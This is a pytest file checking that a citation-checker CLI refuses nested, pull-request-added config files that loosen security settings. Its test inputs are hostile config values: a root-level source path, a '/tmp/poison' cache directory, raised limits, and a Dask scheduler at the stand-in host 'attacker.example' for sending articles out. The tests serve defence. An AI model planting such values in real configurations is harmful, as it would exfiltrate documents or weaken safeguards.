"""Issue 14, item 2: configuration a pull request adds cannot loosen security settings.

`--config FILE` uses exactly that file. Without it discovery stops at the repository
root, and a file below the root may tighten but not loosen (`cli/trust.py`): setting
`allow-private-urls`, `source-root`, `cache-dir`, raising a limit or the timeout,
`offline = false` under a root that says `true`, or dropping a status from `fail-on` is
a configuration error naming the file and the key (exit 2). `-v` says which files
were used; JSON reports and the SARIF run record them.
"""

from __future__ import annotations

import json
import shutil
import subprocess
from pathlib import Path

import pytest

from tests.cli.support import run_main

ARTICLE = "The ILO met in Geneva on Friday [1].\n\nWages rose sharply last year.\n"


@pytest.fixture
def repo(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A git work tree `repo/` with `docs/story.md` and its source, inside a folder with a
    configuration of its own (above the root: never read)."""
    root = tmp_path / "repo"
    root.mkdir()
    if shutil.which("git"):
        subprocess.run(["git", "init", "-q", str(root)], check=True, timeout=30)
    else:
        (root / ".git").mkdir()
    (tmp_path / "citecheck.toml").write_text('fail-on = "none"\n', encoding="utf-8")
    docs = root / "docs"
    docs.mkdir()
    (docs / "story.md").write_text(ARTICLE, encoding="utf-8")
    (docs / "1.txt").write_text("The ILO met in Geneva on Friday.", encoding="utf-8")
    monkeypatch.chdir(root)
    monkeypatch.delenv("GITHUB_STEP_SUMMARY", raising=False)
    return root


def check(capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
    run = run_main(capsys, "check", "docs/story.md", "--source", "1=docs/1.txt", "--offline", *args)
    return run.exit_code, run.stdout, run.stderr


def report_of(capsys: pytest.CaptureFixture[str], *args: str) -> dict[str, object]:
    code, out, err = check(capsys, "--output-format", "json", *args)
    assert code in (0, 1), err
    data: dict[str, object] = json.loads(out)
    return data


def test_discovery_stops_at_the_repository_root(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = report_of(capsys)
    assert data["config_files"] == []  # the file above the root was not read
    assert "uncited" in data["fail_on"]  # type: ignore[operator]


@pytest.mark.parametrize(
    ("line", "key", "says"),
    [
        ("allow-private-urls = true", "allow-private-urls", "may not loosen this switch"),
        ('source-root = "/"', "source-root", "may not set where files are read from"),
        ('cache-dir = "/tmp/poison"', "cache-dir", "may not set where files are read from"),
        ("max-download-bytes = 999999999", "max-download-bytes", "may not raise this limit"),
        ("max_claims = 10000000", "max_claims", "may not raise this limit"),
        ("max-article-chars = 50000000", "max-article-chars", "may not raise this limit"),
        ("timeout = 3600", "timeout", "may not raise this limit"),
        (
            'fail-on = "none"',
            "fail-on",
            "may not stop failing on contradicted, uncited, unknown_source",
        ),
        ('fail_on = ["unsupported"]', "fail_on", "may not stop failing on contradicted, uncited"),
    ],
)
def test_a_file_below_the_root_may_not_loosen_security(
    repo: Path, capsys: pytest.CaptureFixture[str], line: str, key: str, says: str
) -> None:
    (repo / "docs" / "citecheck.toml").write_text(line + "\n", encoding="utf-8")
    code, out, err = check(capsys)
    assert code == 2
    assert out == ""
    assert len(err.splitlines()) == 1, err
    assert "docs/citecheck.toml" in err
    assert f": {key}: " in err
    assert says in err


def test_offline_false_below_a_root_that_says_true(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "citecheck.toml").write_text("offline = true\n", encoding="utf-8")
    (repo / "docs" / "pyproject.toml").write_text(
        "[tool.citecheck]\noffline = false\n", encoding="utf-8"
    )
    code, _, err = check(capsys)
    assert code == 2
    assert "docs/pyproject.toml: offline: " in err
    assert "(citecheck.toml" in err or "citecheck.toml:" in err


def test_a_file_below_the_root_may_tighten_and_tune(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "citecheck.toml").write_text(
        'fail-on = "unsupported,unknown_source"\nmax-claims = 1000\n', encoding="utf-8"
    )
    (repo / "docs" / "citecheck.toml").write_text(
        'fail-on = "unsupported,unknown_source,uncited,partial"\nmax-claims = 500\n'
        'offline = true\nallow-private-urls = false\nmarker-scope = "sentence"\n',
        encoding="utf-8",
    )
    code, out, err = check(capsys, "--output-format", "json", "-v")
    assert code in (0, 1), err
    data = json.loads(out)
    assert data["config_files"] == ["citecheck.toml", "docs/citecheck.toml"]
    assert set(data["fail_on"]) == {"unsupported", "unknown_source", "uncited", "partial"}
    assert "configuration for 1 article: citecheck.toml (root), docs/citecheck.toml" in err


def test_the_root_applies_where_a_nested_file_is_silent(
    repo: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "citecheck.toml").write_text("max-article-chars = 20\n", encoding="utf-8")
    (repo / "docs" / "citecheck.toml").write_text('marker-scope = "sentence"\n', "utf-8")
    code, _, err = check(capsys)
    assert code == 2
    assert "max_article_chars" in err  # the root's limit still holds below it


def test_an_explicit_config_is_exactly_that_file(
    repo: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (repo / "docs" / "citecheck.toml").write_text("allow-private-urls = true\n", "utf-8")
    pinned = tmp_path / "pinned.toml"
    pinned.write_text('fail-on = "unsupported"\n', encoding="utf-8")
    code, out, err = check(capsys, "--config", str(pinned), "--output-format", "sarif", "-v")
    assert code == 0, err  # the nested file is not read; the pinned one does not fail uncited
    log = json.loads(out)
    assert log["runs"][0]["properties"]["configFiles"] == [str(pinned)]
    assert f"configuration for 1 article: {pinned} (--config)" in err


def test_verbose_says_when_no_file_is_found(repo: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _, _, err = check(capsys, "-v")
    assert "configuration for 1 article: none found, the defaults" in err
    _, _, quiet = check(capsys, "-v", "-q")
    assert "configuration" not in quiet


def test_outside_any_repository_the_current_folder_is_the_root(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    project = tmp_path / "project"
    (project / "docs").mkdir(parents=True)
    (tmp_path / "citecheck.toml").write_text('fail-on = "none"\n', encoding="utf-8")
    (project / "citecheck.toml").write_text('fail-on = "uncited"\n', encoding="utf-8")
    (project / "docs" / "story.md").write_text(ARTICLE, encoding="utf-8")
    monkeypatch.chdir(project)
    run = run_main(capsys, "check", "docs/story.md", "--output-format", "json", "--offline")
    data = json.loads(run.stdout)
    assert data["config_files"] == ["citecheck.toml"]
    assert data["fail_on"] == ["uncited"]


def test_a_nested_file_may_not_send_articles_to_a_dask_scheduler(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import subprocess

    from tests.cli.support import invoke

    subprocess.run(["git", "init", "-q", str(tmp_path)], check=True)
    (tmp_path / "desk").mkdir()
    (tmp_path / "desk" / "a.md").write_text("The ILO met on Friday.\n", encoding="utf-8")
    (tmp_path / "desk" / "citecheck.toml").write_text(
        'dask = "tcp://attacker.example:8786"\n', encoding="utf-8"
    )
    monkeypatch.chdir(tmp_path)
    run = invoke("check", "desk/a.md")
    assert run.exit_code == 2
    assert "dask" in run.stderr
    assert "may not choose where articles are sent" in run.stderr
